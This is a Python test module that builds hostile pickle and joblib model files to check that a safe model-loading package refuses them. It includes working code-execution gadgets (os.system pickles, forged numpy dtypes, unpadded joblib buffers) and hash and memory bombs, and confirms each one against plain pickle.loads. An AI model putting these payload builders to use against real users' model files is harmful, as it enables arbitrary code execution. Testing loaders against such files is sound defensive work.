"""Crafted model files against every safe entry point, each attack run for real.

An attacker controls every byte of a file and can recompute every checksum
(only a signature needs a key), so each file below carries valid checksums
unless the attack is on them. Each attack:

* is first shown to work where that makes sense: a *control* runs the same
  file (or the same stream) through plain ``pickle.loads`` / ``joblib.load``
  and must create its marker, connect, crash, hang or blow up memory, so
  that no test passes on a broken exploit;
* then runs against ``read_envelope``, ``audit``, ``load`` and the command
  line (``inspect``, ``check``, ``audit``, ``requirements``, ``diff``,
  ``verify``, run as ``python -m versioned_estimator`` does, through
  ``runpy``), in worker processes with an address-space limit (2 GiB over
  the worker's baseline), a timeout, a listening TCP socket on 127.0.0.1
  that counts connection attempts, and a watch on the attack's folder
  (markers, a fake site-packages, a fake package folder).

What every safe run must show: only this package's errors (for the command
line: exit 0, 1 or 2, one line on stderr for 2, no traceback, no control
character), no marker and no new or changed file, no connection, no module
named by the file imported, no crash, an answer in time, and memory bounded
by the size of the file. Attack-specific expectations (``load`` refuses
with ``UntrustedGlobalError``, ``audit`` names the global...) come on top.

Attacks are grouped by the classes of the security issue:

1. the outer reader is one restricted interpreter (no call, no mutation of
   what it did not build, no file created by reading a file);
2. the allow-list names data, not packages, and leaves gadgets out;
3. forged numpy dtype state (an object dtype claiming no references);
4. deciding whether a name is allowed never imports it;
5. bounded time and memory (hash, repr and JSON bombs, deep nesting, memo
   indices, compression bombs, declared lengths, FIFOs, long heads);
6. integrity (digests bind sizes, buffers are raw uint8, signatures);
7. output (names and versions validated, control characters escaped, wrong
   types are EnvelopeError).
"""

from __future__ import annotations

import bz2
import contextlib
import copy
import gzip
import hashlib
import io
import json
import os
import pickle
import pickletools
import select
import shlex
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pytest
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier, StackingRegressor
from sklearn.linear_model import LinearRegression, LogisticRegression, Ridge
from sklearn.neighbors import KNeighborsClassifier
from sklearn.preprocessing import OneHotEncoder
from sklearn.tree import DecisionTreeClassifier

import versioned_estimator as ve
from versioned_estimator._cli import main as cli_main
from versioned_estimator._payload import format1_digests, start_checksums
from versioned_estimator._render import printed_repeats
from versioned_estimator._rows import encode_input
from versioned_estimator._signing import sign, signature_for

KEY = "hostile-files-test-key"
KEY_VARIABLE = "VE_HOSTILE_TEST_KEY"
MIB = 1024 * 1024
# The worker's address space may grow this much over its baseline.
MEMORY_LIMIT = 2 * 1024 * MIB
# A safe entry point may take this long before it counts as hung; once an
# attack hung, its other entry points get HANG_AGAIN seconds, and after two
# hangs the rest of that attack is not run (each hang costs a worker restart).
HANG = 15.0
HANG_AGAIN = 4.0
# Controls that are expected to hang get this long.
CONTROL_HANG = 6.0
EXT_CODE = 0xF1  # copyreg extension code registered to posix.system in workers
EXT_CACHED = 0xF2  # registered to os.system, resolved once before the attack

# ----------------------------------------------------------------------------
# Pickle opcodes, for hand-assembled streams
# ----------------------------------------------------------------------------

PROTO5 = b"\x80\x05"
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
STOP, REDUCE, BUILD, MARK, TUPLE, TUPLE1, TUPLE2 = (
    b".",
    b"R",
    b"b",
    b"(",
    b"t",
    b"\x85",
    b"\x86",
)
POP, SETITEM, APPENDS, EMPTY_DICT, EMPTY_LIST = b"0", b"s", b"e", b"}", b"]"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    """SHORT_BINBYTES or BINBYTES."""
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    return b"B" + struct.pack("<I", len(value)) + value


def integer(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    data = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL: any module and name, dots and control characters included."""
    return text(module) + text(name) + b"\x93"


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + REDUCE


def put(index: int) -> bytes:
    return b"r" + struct.pack("<I", index)  # LONG_BINPUT


def get(index: int) -> bytes:
    return b"j" + struct.pack("<I", index)  # LONG_BINGET


def tuple_bomb(depth: int, start: int = 0) -> bytes:
    """A tuple of two references to a tuple of two references to ...: a few
    bytes a level, 2**depth nodes when hashed, compared or printed."""
    out = NONE + put(start) + POP
    for level in range(depth):
        out += get(start + level) * 2 + TUPLE2 + put(start + level + 1) + POP
    return out + get(start + depth)


def list_bomb(depth: int, start: int = 0) -> bytes:
    """The same with lists (JSON, deepcopy and compare expand it)."""
    out = EMPTY_LIST + put(start) + POP
    for level in range(depth):
        item = get(start + level)
        out += EMPTY_LIST + MARK + item + item + APPENDS + put(start + level + 1) + POP
    return out + get(start + depth)


def forged_object_dtype() -> bytes:
    """``numpy.dtype("O8")`` whose state claims no references (flags 0)."""
    state = tup(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1))
    state = state[:-1] + integer(0) + TUPLE
    return call(glob("numpy", "dtype"), text("O8"), FALSE, TRUE) + state + BUILD


def touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def system(marker: Path) -> bytes:
    """``posix.system("touch marker")``, the textbook malicious pickle."""
    return call(glob("posix", "system"), text(touch(marker)))


def unframe(data: bytes) -> bytes:
    """Drop FRAME opcodes (optional), so that a splice keeps the file valid."""
    cut = [pos for op, _, pos in pickletools.genops(data) if op.name == "FRAME"]
    out = bytearray()
    last = 0
    for pos in cut:
        out += data[last:pos]
        last = pos + 9
    return bytes(out + data[last:])


# ----------------------------------------------------------------------------
# Objects that pickle as what an attacker writes
# ----------------------------------------------------------------------------


class Call:
    """Pickles as ``func(*args)``: a REDUCE the attacker chose."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)

    def __call__(self, *args: Any) -> Any:  # pragma: no cover - pickling only
        raise AssertionError("a Call only pickles")


class Reduced:
    """Pickles as the reduce tuple it was given."""

    def __init__(self, reduced: tuple[Any, ...]) -> None:
        self.reduced = reduced

    def __reduce_ex__(self, protocol: Any) -> tuple[Any, ...]:
        return self.reduced


def _hole(index: int) -> None:  # pragma: no cover - never called
    raise AssertionError(index)


class Hole:
    """A placeholder whose pickled bytes :func:`splice` replaces with raw opcodes."""

    def __init__(self, index: int = 0) -> None:
        self.index = index

    def __reduce__(self) -> tuple[Any, ...]:
        return (_hole, (self.index,))


def dumps_fast(obj: Any, protocol: int = 5) -> bytes:
    """Pickle without memo and without frames: raw opcodes can be spliced in."""
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol)
    pickler.fast = True
    pickler.dump(obj)
    return unframe(buffer.getvalue())


def splice(data: bytes, holes: dict[int, bytes]) -> bytes:
    for index, ops in holes.items():
        marker = dumps_fast(Hole(index))[2:-1]
        assert data.count(marker) == 1, index
        data = data.replace(marker, ops)
    return data


# ----------------------------------------------------------------------------
# Parts of real models, and files assembled from them
# ----------------------------------------------------------------------------


class TrailerCall:
    def __init__(self, rebuild: Any, data: dict[str, Any]) -> None:
        self.rebuild, self.data = rebuild, data

    def __reduce_ex__(self, protocol: Any) -> Any:
        return (self.rebuild, (self.data,))


@dataclass
class Parts:
    rebuild: Any
    envelope: dict[str, Any]
    stream: bytes
    buffers: list[Any]
    trailer: dict[str, Any]

    def copy(self) -> Parts:
        return Parts(
            self.rebuild,
            copy.deepcopy(self.envelope),
            self.stream,
            list(self.buffers),
            copy.deepcopy(self.trailer),
        )


def parts_of(model: Any) -> Parts:
    rebuild, args = model.__reduce_ex__(5)
    envelope, stream, buffers, trailer = args
    return Parts(
        rebuild,
        copy.deepcopy(envelope),
        bytes(stream),
        [np.array(b, copy=True) for b in buffers],
        copy.deepcopy(trailer.result()),
    )


def assemble(
    base: Parts,
    *,
    envelope: Callable[[dict[str, Any]], Any] | None = None,
    stream: Any = None,
    buffers: list[Any] | None = None,
    trailer: Callable[[dict[str, Any]], Any] | None = None,
    recompute: bool = True,
    key: str | None = None,
) -> Reduced:
    """A format 2 file of ``base`` with parts replaced, checksums recomputed
    (as anyone can) and, with ``key``, signed."""
    parts = base.copy()
    head, tail = parts.envelope, parts.trailer
    new_stream = parts.stream if stream is None else stream
    new_buffers = parts.buffers if buffers is None else buffers
    if recompute:
        sizes = [memoryview(b).nbytes for b in new_buffers]
        payload = head["payload"]
        payload["stream"] = {"nbytes": len(new_stream)}
        payload["buffers"] = [{"nbytes": n} for n in sizes]
        payload["nbytes"] = len(new_stream) + sum(sizes)
        payload["checksum"] = "sha256" if key else "crc32"
        payload["signed"] = "hmac-sha256" if key else None
        tail.pop("signature", None)
        tail["checksums"] = start_checksums(
            payload["checksum"], new_stream, new_buffers
        ).result()
    if envelope is not None:
        envelope(head)
    if recompute and key:
        tail["signature"] = signature_for(head, tail, key.encode())
    if trailer is not None:
        trailer(tail)
    args = (head, new_stream, new_buffers, TrailerCall(parts.rebuild, tail))
    return Reduced((parts.rebuild, args))


def format1(base: Parts, *, stream: bytes, key: str | None = None) -> dict[str, Any]:
    """A format 1 envelope (SHA-256 tree digests in the head) for ``stream``."""
    head = copy.deepcopy(base.envelope)
    head["format_version"] = 1
    head["payload"] = format1_digests(stream, [])
    if head.get("probe"):
        head["probe"]["outputs"] = base.trailer["probe"]["outputs"]
    return sign(head, key.encode()) if key else head


def probe_list_of(value: Any) -> dict[str, Any]:
    """Probe rows that decode to ``value`` itself (a 0-d object array's item)."""
    return {
        "n_rows": 1,
        "X": {
            "kind": "list",
            "array": {
                "kind": "ndarray",
                "dtype": "object",
                "shape": [],
                "items": [value],
            },
        },
    }


ZERO_OUTPUT = {
    "kind": "ndarray",
    "dtype": "<f8",
    "shape": [1],
    "base64": "AAAAAAAAAAA=",
}

# ----------------------------------------------------------------------------
# The worker: a process that runs jobs and answers in JSON lines
# ----------------------------------------------------------------------------

WORKER = r"""
import contextlib, copyreg, importlib, json, os, resource, runpy, subprocess, sys
import tempfile, time, traceback, warnings

warnings.simplefilter("ignore")
setup = json.loads(sys.argv[1])
for path in setup["sys_path"]:
    sys.path.insert(0, path)
for module, name, code in setup["extensions"]:
    copyreg.add_extension(module, name, code)
for module in setup["preload"]:
    importlib.import_module(module)
import versioned_estimator as ve

PAGE = os.sysconf("SC_PAGE_SIZE")


def address_space():
    with open("/proc/self/statm") as f:
        return int(f.read().split()[0]) * PAGE


def status(key):
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1]) * 1024
    return 0


answers = os.fdopen(os.dup(1), "w")
devnull = os.open(os.devnull, os.O_WRONLY)
os.dup2(devnull, 1)


def say(message):
    answers.write(json.dumps(message, default=repr) + "\n")
    answers.flush()


def error_of(exc):
    return {
        "type": type(exc).__name__,
        "module": type(exc).__module__,
        "ours": isinstance(exc, ve.VersionedEstimatorError),
        "message": str(exc)[:600],
    }


def command_line(argv, process):
    if process:
        done = subprocess.run(
            [sys.executable, "-m", "versioned_estimator", *argv],
            capture_output=True, timeout=setup["cli_timeout"],
        )
        return {
            "code": done.returncode,
            "stdout": done.stdout.decode("utf-8", "replace"),
            "stderr": done.stderr.decode("utf-8", "replace"),
            "uncaught": None,
        }
    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    sys.stdout.flush()
    sys.stderr.flush()
    saved = os.dup(1), os.dup(2)
    os.dup2(out.fileno(), 1)
    os.dup2(err.fileno(), 2)
    argv_before = sys.argv
    sys.argv = ["versioned-estimator", *argv]
    code, uncaught = None, None
    try:
        try:
            runpy.run_module("versioned_estimator", run_name="__main__")
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
    except BaseException as exc:  # python -m would print a traceback, exit 1
        uncaught = error_of(exc)
        code = 1
        traceback.print_exc()
    finally:
        sys.stdout.flush()
        sys.stderr.flush()
        os.dup2(saved[0], 1)
        os.dup2(saved[1], 2)
        os.close(saved[0])
        os.close(saved[1])
        sys.argv = argv_before
    out.seek(0)
    err.seek(0)
    return {
        "code": code,
        "stdout": out.read().decode("utf-8", "replace"),
        "stderr": err.read().decode("utf-8", "replace"),
        "uncaught": uncaught,
    }


def run(job):
    kind, path, args = job["kind"], job["path"], job.get("args") or {}
    if kind == "read_envelope":
        return {"estimator_class": ve.read_envelope(path).estimator_class}
    if kind == "audit":
        report = ve.audit(path, **args)
        return {
            "ok": report.ok, "globals": report.globals, "untrusted": report.untrusted,
            "dangerous": report.dangerous, "error": report.error,
        }
    if kind == "load":
        model = ve.load(path, **args)
        return {"loaded": type(model.__dict__.get("estimator_")).__name__}
    if kind in ("cli", "cli-process"):
        return command_line(job["argv"], kind == "cli-process")
    if kind == "html":
        from versioned_estimator._html import envelope_card
        return {"html": envelope_card(ve.read_envelope(path).to_dict(), state="sealed")}
    if kind == "exec":
        space = {"path": path, "args": args, "value": None}
        exec(job["code"], space)
        return {"value": space["value"]}
    raise ValueError(kind)


def serve():
    # The worker proper: a child of this process, forked after the imports,
    # so that a crash or a hang costs a fork, not a restart.
    os.setpgid(0, 0)
    limit = address_space() + setup["memory"]
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    stdin = os.fdopen(0, "r")
    say({"ready": os.getpid()})
    for line in stdin:
        job = json.loads(line)
        before = set(sys.modules)
        try:
            with open("/proc/self/clear_refs", "w") as f:
                f.write("5")
        except OSError:
            pass
        rss = status("VmRSS")
        start = time.perf_counter()
        answer = {}
        try:
            answer["value"] = run(job)
        except BaseException as exc:
            answer["error"] = error_of(exc)
            answer["traceback"] = traceback.format_exc()[-2000:]
        answer["elapsed"] = time.perf_counter() - start
        answer["peak"] = max(0, status("VmHWM") - rss)
        answer["imported"] = [
            m for m in job.get("forbid", []) if m not in before and m in sys.modules
        ]
        say(answer)


while True:
    pid = os.fork()
    if pid == 0:
        try:
            serve()
        finally:
            os._exit(0)
    _, code = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(code)
    if code == 0:
        break  # the parent closed stdin: done
    say({"died": code})
"""


@dataclass
class Job:
    attack: Attack
    label: str
    kind: str
    path: str = ""
    args: dict[str, Any] | None = None
    argv: list[str] | None = None
    code: str = ""
    timeout: float = HANG

    def message(self) -> str:
        return json.dumps(
            {
                "kind": self.kind,
                "path": self.path,
                "args": self.args,
                "argv": self.argv,
                "code": self.code,
                "forbid": self.attack.forbid,
            }
        )


@dataclass
class Outcome:
    """What one job did, seen from the worker and from outside it."""

    job: Job
    status: str  # "done", "hang", "crash", "not run"
    answer: dict[str, Any] = field(default_factory=dict)
    created: list[str] = field(default_factory=list)
    connections: int = 0
    detail: str = ""
    wall: float = 0.0

    @property
    def error(self) -> dict[str, Any] | None:
        return self.answer.get("error")

    @property
    def value(self) -> Any:
        return self.answer.get("value")


def snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    found = {}
    for path in folder.rglob("*"):
        with contextlib.suppress(OSError):
            info = path.lstat()
            found[str(path)] = (info.st_size, info.st_mtime_ns)
    return found


class Worker:
    """A zygote process that imported everything once, and the worker it forked;
    after a crash or a hang the zygote forks a fresh worker."""

    def __init__(self, setup: dict[str, Any], log: Path) -> None:
        self.setup = setup
        self.log = log
        self.proc: subprocess.Popen[bytes] | None = None
        self.child: int | None = None
        self.pending = b""

    def start(self) -> None:
        env = {k: v for k, v in os.environ.items() if not k.startswith("VERSIONED_")}
        env.update(
            {
                KEY_VARIABLE: KEY,
                "PYTHONDONTWRITEBYTECODE": "1",
                "OMP_NUM_THREADS": "1",
                "OPENBLAS_NUM_THREADS": "1",
                "MKL_NUM_THREADS": "1",
            }
        )
        with open(self.log, "ab") as log:
            self.proc = subprocess.Popen(
                [sys.executable, "-c", WORKER, json.dumps(self.setup)],
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                stderr=log,
                env=env,
                cwd=self.setup["cwd"],
                start_new_session=True,
            )
        self.pending = b""
        self.child = None
        self.wait_ready()

    def line(self, timeout: float) -> dict[str, Any] | None:
        """The next line of the zygote or its worker, None after ``timeout``."""
        proc = self.proc
        assert proc is not None
        assert proc.stdout is not None
        deadline = time.monotonic() + timeout
        fd = proc.stdout.fileno()
        while b"\n" not in self.pending:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            ready, _, _ = select.select([fd], [], [], left)
            if not ready:
                continue
            chunk = os.read(fd, 1 << 20)
            if not chunk:
                raise RuntimeError("the zygote died" + log_tail(self.log))
            self.pending += chunk
        line, _, self.pending = self.pending.partition(b"\n")
        return json.loads(line)  # type: ignore[no-any-return]

    def wait_ready(self) -> None:
        message = self.line(600)
        if message is None or "ready" not in message:
            raise RuntimeError(f"no worker: {message}" + log_tail(self.log))
        self.child = int(message["ready"])

    def kill_child(self) -> None:
        if self.child is not None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(self.child, signal.SIGKILL)
            self.child = None
            died = self.line(60)
            assert died is not None, "the zygote did not see its worker die"
            assert "died" in died, died
            self.wait_ready()

    def stop(self) -> None:
        proc, self.proc = self.proc, None
        if proc is None:
            return
        if self.child is not None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(self.child, signal.SIGKILL)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        for stream in (proc.stdin, proc.stdout):
            with contextlib.suppress(OSError):
                stream.close()  # type: ignore[union-attr]

    def ask(self, job: Job, fresh: bool = False) -> tuple[str, dict[str, Any], str]:
        if self.proc is None:
            self.start()
        elif fresh:
            self.kill_child()
        proc = self.proc
        assert proc is not None
        assert proc.stdin is not None
        proc.stdin.write(job.message().encode() + b"\n")
        proc.stdin.flush()
        message = self.line(job.timeout)
        if message is None:
            self.kill_child()
            return "hang", {}, f"no answer within {job.timeout:.0f} s"
        if "died" in message:
            self.child = None
            self.wait_ready()
            detail = f"the worker died with exit status {message['died']}"
            return "crash", {}, detail + log_tail(self.log)
        return "done", message, ""


def count_connections(listener: socket.socket) -> int:
    count = 0
    while True:
        try:
            conn, _ = listener.accept()
        except (BlockingIOError, InterruptedError):
            return count
        conn.close()
        count += 1


def run_jobs(groups: list[list[Job]], setup: dict[str, Any], logs: Path) -> None:
    """Run each group of jobs in its own worker, the groups in parallel."""

    def drive(index: int, jobs: list[Job]) -> None:
        worker = Worker(setup, logs / f"worker-{setup['name']}-{index}.log")
        hangs: dict[str, int] = {}
        try:
            for job in jobs:
                attack = job.attack
                seen = hangs.get(attack.name, 0)
                if seen >= 2:
                    attack.outcomes.append(
                        Outcome(job, "not run", detail="the attack hung twice already")
                    )
                    continue
                if seen:
                    job.timeout = min(job.timeout, HANG_AGAIN)
                before = {}
                for folder in attack.watch:
                    before.update(snapshot(folder))
                began = time.monotonic()
                status, answer, detail = worker.ask(job, fresh=job.label == "control")
                wall = time.monotonic() - began
                if status == "hang":
                    hangs[attack.name] = seen + 1
                outcome = Outcome(job, status, answer, detail=detail, wall=wall)
                after = {}
                for folder in attack.watch:
                    after.update(snapshot(folder))
                outcome.created = sorted(
                    path for path, info in after.items() if before.get(path) != info
                )
                for path in outcome.created:
                    with contextlib.suppress(OSError):
                        if os.path.isdir(path) and not os.path.islink(path):
                            continue
                        os.unlink(path)
                outcome.connections = count_connections(attack.listener)
                attack.outcomes.append(outcome)
        finally:
            worker.stop()

    threads = [
        threading.Thread(target=drive, args=(i, jobs)) for i, jobs in enumerate(groups)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def log_tail(log: Path) -> str:
    try:
        tail = log.read_bytes()[-600:].decode("utf-8", "replace")
    except OSError:
        return ""
    return "; worker stderr: ..." + " ".join(tail.split())[-400:]


# ----------------------------------------------------------------------------
# Attacks
# ----------------------------------------------------------------------------

ENTRIES = (
    "read_envelope",
    "audit",
    "load",
    "cli inspect",
    "cli check",
    "cli audit",
    "cli requirements",
    "cli diff",
    "cli verify",
)
HEAD = ("read_envelope", "cli inspect", "cli check", "cli requirements", "cli diff")


@dataclass
class Control:
    """How the attack is shown to work without this package's safe path.

    ``expect``: ``marker`` (a file appears), ``connect``, ``crash``, ``hang``,
    ``memory`` (MemoryError or killed), ``hang or memory``, or ``check``
    (the code sets ``value = True``).
    """

    expect: str
    code: str
    timeout: float = 60.0


@dataclass
class Attack:
    name: str
    group: int  # the class of the issue (1 to 7), 0 for baseline files
    summary: str
    path: Path | None = None
    entries: tuple[str, ...] = ENTRIES
    load_args: dict[str, Any] = field(default_factory=dict)
    extra: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)
    control: Control | None = None
    raises: dict[str, set[str]] = field(default_factory=dict)
    codes: dict[str, set[int]] = field(default_factory=dict)
    check: Callable[[str, Outcome], list[str]] | None = None
    forbid: list[str] = field(default_factory=list)
    max_seconds: float | None = None
    max_peak: int | None = None
    hang: float = HANG
    watch: list[Path] = field(default_factory=list)
    listener: socket.socket = field(default=None)  # type: ignore[assignment]
    outcomes: list[Outcome] = field(default_factory=list)
    controls: list[Outcome] = field(default_factory=list)
    built: str = ""  # why the attack could not be built, if it could not


@dataclass
class Corpus:
    root: Path
    benign: Path
    small: Parts
    small_model: Any
    iris: tuple[Any, Any]
    port: dict[str, int] = field(default_factory=dict)
    attacks: dict[str, Attack] = field(default_factory=dict)

    def folder(self, name: str) -> Path:
        path = self.root / "attacks" / name
        path.mkdir(parents=True, exist_ok=True)
        return path


BUILDERS: dict[str, Callable[[Corpus, Attack], None]] = {}
SPEC: dict[str, tuple[int, str]] = {}


def attack(name: str, group: int, summary: str) -> Callable[..., Any]:
    def register(builder: Callable[[Corpus, Attack], None]) -> Any:
        assert name not in BUILDERS, name
        BUILDERS[name] = builder
        SPEC[name] = (group, summary)
        return builder

    return register


def marker(corpus: Corpus, atk: Attack) -> Path:
    return corpus.folder(atk.name) / "MARKER"


def write(path: Path, obj: Any, how: str = "joblib") -> Path:
    if how == "joblib":
        joblib.dump(obj, path)
    elif how == "pickle":
        path.write_bytes(pickle.dumps(obj, protocol=5))
    else:
        raise ValueError(how)
    return path


PICKLE_CONTROL = "import pickle\nobj = pickle.loads(open(path, 'rb').read())\n"
STREAM_CONTROL = (
    "import pickle\n"
    "import versioned_estimator as ve\n"
    "from versioned_estimator._reader import read_parts\n"
    "from versioned_estimator._sources import open_source\n"
    "obj = pickle.loads(read_parts(open_source(path), skip_buffers=True).stream)\n"
)
JOBLIB_CONTROL = (
    "import joblib\nobj = joblib.load(path)\nobj._materialize()\n"  # plain, lazy path
)


def inner_attack(
    corpus: Corpus,
    atk: Attack,
    stream: bytes,
    *,
    names: tuple[str, ...] = (),
    control: str | None = "marker",
    control_code: str = STREAM_CONTROL,
    envelope: Callable[[dict[str, Any]], Any] | None = None,
    base: Parts | None = None,
    violation: bool = False,
) -> None:
    """A real model file whose inner stream is ``stream`` (checksums valid):
    ``load`` must refuse it before anything runs, ``audit`` must say so."""
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(base or corpus.small, stream=stream, buffers=[], envelope=envelope),
    )
    atk.raises = {"load": {"UntrustedGlobalError"}, "audit": set()}
    atk.codes = {"cli audit": {1}, "cli verify": {1}}
    if control is not None:
        atk.control = Control(control, control_code)

    def audited(label: str, outcome: Outcome) -> list[str]:
        if label != "audit" or outcome.error is not None or outcome.status != "done":
            return []
        report = outcome.value
        problems = []
        if report["ok"]:
            problems.append(f"audit says ok for {report['globals']}")
        for name in names:
            if name not in report["untrusted"]:
                problems.append(f"audit does not list {name!r} as untrusted")
        if violation and report["error"] is None:
            problems.append("audit reports no refused use")
        return problems

    atk.check = audited


def head_file(corpus: Corpus, atk: Attack, body: bytes) -> None:
    """A file that starts as a wrapped model does, then ``body``."""
    start = PROTO5 + glob("versioned_estimator", "_rebuild") + MARK
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(start + body)


def outer_attack(
    corpus: Corpus,
    atk: Attack,
    *,
    envelope: Callable[[dict[str, Any]], Any] | None = None,
    stream: Any = None,
    buffers: list[Any] | None = None,
    holes: dict[int, bytes] | None = None,
    control: Control | None = None,
    compress: str | None = None,
) -> None:
    """A model file with a hostile outer pickle: every reader must refuse it."""
    data = dumps_fast(
        assemble(
            corpus.small,
            envelope=envelope,
            stream=stream,
            buffers=buffers,
            recompute=False,
        )
    )
    data = splice(data, holes or {})
    atk.path = corpus.folder(atk.name) / "model.pkl"
    if compress == "gzip":
        data = gzip.compress(data)
    atk.path.write_bytes(data)
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}
    atk.control = control


# -- 1. the outer reader ---------------------------------------------------------------


@attack("outer-system-first-global", 1, "a plain os.system pickle")
def _(corpus: Corpus, atk: Attack) -> None:
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(PROTO5 + system(marker(corpus, atk)) + STOP)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.control = Control("marker", PICKLE_CONTROL)


class _Unseekable(io.RawIOBase):
    """A write-only file without ``tell``, as a pipe or a socket is."""

    def __init__(self, path: Path) -> None:
        self._file = path.open("wb")

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return self._file.write(data)

    def close(self) -> None:
        self._file.close()
        super().close()


def payload_with_extra_buffer(corpus: Corpus, atk: Attack, code: bytes) -> Reduced:
    """A small model pickled in-band, and one more buffer holding ``code``."""
    stream = pickle.dumps(corpus.small_model.estimator_, protocol=5)
    extra = np.frombuffer(code, dtype=np.uint8)
    return assemble(corpus.small, stream=stream, buffers=[extra])


@attack("joblib-unaligned-buffer", 1, "unpadded buffer bytes pickle.load runs")
def _(corpus: Corpus, atk: Attack) -> None:
    # joblib.dump to a file without tell() writes no alignment padding: the
    # buffer's bytes follow the wrapper, and pickle.load reads them as code.
    obj = payload_with_extra_buffer(corpus, atk, system(marker(corpus, atk)) + b"0")
    atk.path = corpus.folder(atk.name) / "model.joblib"
    with _Unseekable(atk.path) as handle:
        joblib.dump(obj, handle)
    # The head is sound: what reads the payload refuses it.
    atk.raises = {"audit": {"EnvelopeError"}, "load": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}
    atk.control = Control("marker", PICKLE_CONTROL)


@attack("unused-buffer", 1, "a buffer the stream never takes")
def _(corpus: Corpus, atk: Attack) -> None:
    obj = payload_with_extra_buffer(corpus, atk, system(marker(corpus, atk)) + b"0")
    atk.path = write(corpus.folder(atk.name) / "model.joblib", obj)
    atk.raises = {"load": {"UntrustedGlobalError"}, "audit": set()}
    atk.codes = {"cli audit": {1}, "cli verify": {1}}

    def refused(label: str, outcome: Outcome) -> list[str]:
        if label != "audit" or outcome.status != "done" or outcome.error is not None:
            return []
        report = outcome.value
        if report["ok"] or "buffers" not in (report["error"] or ""):
            return [f"audit does not refuse the unused buffer: {report}"]
        return []

    atk.check = refused


@attack("outer-system-in-envelope", 1, "os.system called inside the envelope")
def _(corpus: Corpus, atk: Attack) -> None:
    command = Call(os.system, touch(marker(corpus, atk)))
    outer_attack(
        corpus,
        atk,
        envelope=lambda e: e["metadata"].update(owner=command),
        control=Control("marker", PICKLE_CONTROL),
    )
    atk.raises["read_envelope"] = {"EnvelopeError"}


def envelope_scalar(
    code: str, data: bytes, state: tuple[Any, ...] | None = None, built: bool = True
) -> bytes:
    """A numpy scalar as pickle writes one (``scalar(dtype(code), data)``),
    its dtype's state given or numpy's own."""
    if state is None:
        state = np.dtype(code).__reduce__()[2]
    fields = [
        text(v) if isinstance(v, str) else NONE if v is None else integer(v)
        for v in state
    ]
    dtype = call(glob("numpy", "dtype"), text(code), FALSE, TRUE)
    if built:
        dtype += tup(*fields) + BUILD
    return call(glob("numpy._core.multiarray", "scalar"), dtype, raw(data))


#: Numpy scalars an envelope may not hold: format 2 files of earlier releases
#: hold bool, integer, float (at most 64 bits) and text scalars, read as
#: Python values; anything else is crafted.
ENVELOPE_SCALARS = {
    "complex": envelope_scalar("c16", bytes(16)),
    "float128": envelope_scalar("f16", bytes(16)),
    "object": envelope_scalar("O8", bytes(8)),
    "void": envelope_scalar("V8", bytes(8)),
    "bytes": envelope_scalar("S4", b"xy\x00\x00"),
    "text-too-wide": envelope_scalar("U70000", bytes(280_000)),
    "beyond-unicode": envelope_scalar("U1", struct.pack("<I", 0x110000)),
    "surrogate": envelope_scalar("U1", struct.pack("<I", 0xD800)),
    "short-data": envelope_scalar("f8", bytes(4)),
    "dtype-state-wider": envelope_scalar(
        "f8", bytes(8), (3, "<", None, None, None, 16, 8, 0)
    ),
    "dtype-state-object-flags": envelope_scalar(
        "i8", bytes(8), (3, "<", None, None, None, -1, -1, 63)
    ),
    "dtype-unbuilt": envelope_scalar("f8", bytes(8), built=False),
}


def _in_the_envelope(corpus: Corpus, atk: Attack, ops: bytes) -> None:
    """The opcodes ``ops`` as a value of the envelope's metadata: every
    reader, ``read_envelope`` too, must refuse the file."""
    outer_attack(
        corpus,
        atk,
        envelope=lambda e: e["metadata"].update(owner=Hole(1)),
        holes={1: ops},
    )
    atk.raises["read_envelope"] = {"EnvelopeError"}


